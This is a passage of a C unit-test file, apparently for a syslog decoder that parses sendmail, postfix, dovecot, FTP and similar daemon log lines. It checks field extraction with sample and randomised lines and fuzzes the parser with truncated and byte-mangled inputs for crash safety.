		"Jan  1 00:00:00 h CRON[1]: (root) CMD (run-parts /etc/cron.hourly)",
		"Jan  1 00:00:00 h foo[1]: connection from 192.0.2.1 (192.0.2.1)",
		"Jan  1 00:00:00 h foo[1]: connect from host.example [192.0.2.1]",
		"Jan  1 00:00:00 h foo[1]: Disconnected (reason): user=<x>",
		"Jan  1 00:00:00 h foo[1]: warning: something odd happened",
		"Jan  1 00:00:00 h foo[1]: ABCDEF: something",
		"Jan  1 00:00:00 h foo[1]: login: nothing here",
		"Jan  1 00:00:00 h foo[1]: logged: h [192.0.2.1] bob x User logged in",
		"Jan  1 00:00:00 h foo[1]: bob at host (192.0.2.1) said -ERR",
		"imaps TLS negotiation failed: [196.52.43.55]",
		"Sep 04 00:00:06 hostname openvpn[23718]: 54.183.149.10:34791 TLS Error: TLS handshake failed",
		/* benign lines of these daemons that carry nothing */
		"Jan  3 02:20:00 mx postfix/cleanup[1]: 3F2A81E04C: message-id=<x@y>",
		"Jan  3 02:20:00 mx postfix/qmgr[1]: 3F2A81E04C: removed",
		"Jan  3 02:20:00 mx sendmail[1]: STARTTLS=server, relay=host [192.0.2.1], version=TLSv1.2, verify=NO",
		"Jan  3 02:20:00 mx sendmail[1]: alias database /etc/aliases rebuilt by root",
		"Jan  3 02:20:00 mx popper[1]: -ERR something else entirely",
		"Jan  3 02:20:00 mx dovecot: master: Dovecot v2.3 starting up",
		"Jan  3 02:20:00 mx dovecot: auth: pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=bob rhost=192.0.2.1",
		"Jan  3 02:20:00 mx imapd[1]: Killed (lost mailbox lock) user=bob host=h [192.0.2.1]",
		"Jan  3 02:20:00 mx ftpd[1]: FTP LOGIN FROM",
		"Jan  3 02:20:00 mx vsftpd[1]: [bob] OK MKDIR: Client \"192.0.2.1\", \"/x\"",
		"Jan  3 02:20:00 mx proftpd[1]: srv (h[192.0.2.1]) - Preparing to chroot to directory '/x'",
		"Jan  3 02:20:00 mx cucipop[1]: something else",
		"Mon Jan 20 12:58:29 2003 garbage that is not a record",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++)
		not_mine(others[i]);
}

/* The from= value of a sendmail line with "K=v" after the address. */
static void
from_before(const char *key, const char *want)
{
	struct ks_fields f;
	struct ks_str v;
	char *copy, line[256];

	snprintf(line, sizeof(line), "Jan  3 03:00:00 h sendmail[1]: "
	    "DAA04300: from=<a@b>, %sv, relay=[192.0.2.1]", key);
	assert_string_equal(decode(line, &f, &copy), "sendmail");
	v = f.v[KS_F_EMAIL_FROM_ADDRESS];
	if (v.n != strlen(want) || memcmp(v.p, want, v.n) != 0)
		fail_msg("%s\n  from is \"%.*s\", want \"%s\"", line,
		    (int)v.n, v.p, want);
	free(copy);
}

/*
 * A value ends before every key sendmail writes, and only before those:
 * a near miss stays part of the address.
 */
static void
test_sendmail_keys(void **state)
{
	static const char *const known[] = { "arg1=", "arg2=", "auth=",
	    "authid=", "bits=", "bodytype=", "class=", "ctladdr=", "daemon=",
	    "delay=", "dsn=", "mailer=", "mech=", "msgid=", "nrcpts=",
	    "pri=", "proto=", "quarantine=", "reject=", "relay=", "size=",
	    "stat=", "tries=", "user=", "xdelay=" };
	static const char *const near[] = { "arg3=", "arg1", "aut=",
	    "authid", "Relay=", "rela=", "relayx=", "relay =", "x=", "=",
	    "nrcpt=", "nrcptsx=", "stat:", "quarantin=", "xdelay_=",
	    "sizes=", "mechs=", "Bits=", "dsn", "trie=" };
	char buf[64];

	(void)state;
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		from_before(known[i], "a@b");
	for (size_t i = 0; i < sizeof(near) / sizeof(near[0]); i++) {
		snprintf(buf, sizeof(buf), "<a@b>, %sv", near[i]);
		from_before(near[i], buf);
	}
}

/* Whether a sendmail line's first n bytes id make a queue id, by the rule. */
static bool
qid_slow(const char *id, size_t n)
{
	bool digit = false;

	if (n < 5 || n > 32)
		return false;
	for (size_t i = 0; i < n; i++) {
		char c = id[i];

		if (!((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
		    (c >= '0' && c <= '9')))
			return false;
		digit |= c >= '0' && c <= '9';
	}
	return digit;
}

/*
 * Queue ids of random bytes (letters, digits, and bytes next to them in
 * the table of classes: '_', '-', '.', '@', '[', '`', '{', '/', ':',
 * 0x80, 0xff) of every length to 40: the local id against the rule.
 */
static void
test_sendmail_qid(void **state)
{
	static const char abc[] = "aZ09zA_-.@[`{/:\x80\xff", alnum[] = "aZ09zA5x";
	char id[48], line[160];
	uint32_t r = 3;

	(void)state;
	for (int t = 0; t < 20000; t++) {
		struct ks_fields f;
		struct ks_str v;
		const char *dec;
		char *copy;
		size_t n;

		r = r * 1103515245u + 12345u;
		n = (r >> 16) % 41;
		for (size_t i = 0; i < n; i++) {
			r = r * 1103515245u + 12345u;
			id[i] = (r >> 24) % 4 ? alnum[(r >> 16) % 8] :
			    abc[(r >> 16) % (sizeof(abc) - 1)];
		}
		snprintf(line, sizeof(line), "Jan  3 03:00:00 h sendmail[1]: "
		    "%.*s: to=<a@b>, delay=1, mailer=esmtp, stat=Sent", (int)n,
		    id);
		dec = decode(line, &f, &copy);
		v = dec != NULL ? f.v[KS_F_EMAIL_LOCAL_ID] : KS_STR_NULL;
		if (qid_slow(id, n) ? v.n != n || memcmp(v.p, id, n) != 0 :
		    v.n != 0)
			fail_msg("%s\n  local id \"%.*s\"", line, (int)v.n, v.p);
		free(copy);
	}
}

/* The status of a to= body by the forward search: after the last ", stat=". */
static const char *
stat_slow(const char *body)
{
	const char *r = NULL;

	for (const char *q = body; (q = strstr(q, ", stat=")) != NULL; q += 2)
		r = q + 7;
	return r;
}

/*
 * stat= is looked for backwards: against the forward search on to= lines
 * made of random pieces of ", stat=", commas, spaces and brackets, so
 * that it appears inside the address, inside its own value, cut off and
 * not at all.
 */
static void
test_sendmail_stat(void **state)
{
	static const char *const bits[] = {
		", stat=", ",", ", ", " ", "stat=", "x", "<", ">", ", mailer=",
		",stat=", "Sent",
	};
	char body[160], line[256];
	uint32_t r = 11;

	(void)state;
	for (int t = 0; t < 3000; t++) {
		const char *want;
		struct ks_fields f;
		struct ks_str v;
		char *copy;
		size_t n = 3;

		memcpy(body, "to=", 3);
		r = r * 1103515245u + 12345u;
		for (size_t k = (r >> 16) % 24; k > 0; k--) {
			const char *b;

			r = r * 1103515245u + 12345u;
			b = bits[(r >> 16) % (sizeof(bits) / sizeof(bits[0]))];
			memcpy(body + n, b, strlen(b));
			n += strlen(b);
		}
		body[n] = '\0';
		snprintf(line, sizeof(line), "Jan  3 03:00:00 h sendmail[1]: "
		    "DAA04300: %s", body);
		want = stat_slow(body);
		if (want == NULL || *want == '\0')
			continue;
		assert_non_null(decode(line, &f, &copy));
		v = f.v[KS_F_EMAIL_STATUS];
		if (v.n != strlen(want) || memcmp(v.p, want, v.n) != 0)
			fail_msg("%s\n  stat is \"%.*s\", want \"%s\"", line,
			    (int)v.n, v.p, want);
		free(copy);
	}
}

/*
 * Every prefix of every case line, and the case lines with their bytes
 * changed one at a time to a space, a quote, a bracket, a colon: nothing
 * crashes or reads outside the message (run under the sanitizers).
 */
static void
mangle(const struct tcase *c, size_t n)
{
	static const char subst[] = " \"[]():,<>=@";
	struct ks_fields f;
	char *copy, buf[2048];

	for (size_t i = 0; i < n; i++) {
		size_t len = strlen(c[i].line);

		assert_true(len < sizeof(buf));
		for (size_t k = 0; k <= len; k++) {
			memcpy(buf, c[i].line, k);
			buf[k] = '\0';
			(void)decode(buf, &f, &copy);
			free(copy);
		}
		for (size_t k = 0; k < len; k++)
			for (size_t s = 0; s < sizeof(subst) - 1; s++) {
				memcpy(buf, c[i].line, len + 1);
				buf[k] = subst[s];
				(void)decode(buf, &f, &copy);
				free(copy);
			}
	}
}

#define MANGLE(a) mangle(a, sizeof(a) / sizeof(a[0]))

static void
test_hostile(void **state)
{
	(void)state;
	MANGLE(sendmail_seed);
	MANGLE(sendmail_forms);
	MANGLE(postfix_forms);
	MANGLE(popper_forms);
	MANGLE(uw_forms);
	MANGLE(dovecot_forms);
	MANGLE(courier_cyrus_forms);
	MANGLE(ftp_forms);
	MANGLE(xferlog_forms);
	MANGLE(http_forms);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sendmail_seed),
		cmocka_unit_test(test_sendmail_forms),
		cmocka_unit_test(test_sendmail_keys),
		cmocka_unit_test(test_sendmail_stat),
		cmocka_unit_test(test_sendmail_qid),
		cmocka_unit_test(test_postfix),
		cmocka_unit_test(test_mailbox),
		cmocka_unit_test(test_ftp),
		cmocka_unit_test(test_http),
		cmocka_unit_test(test_negatives),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, setup, NULL);
}
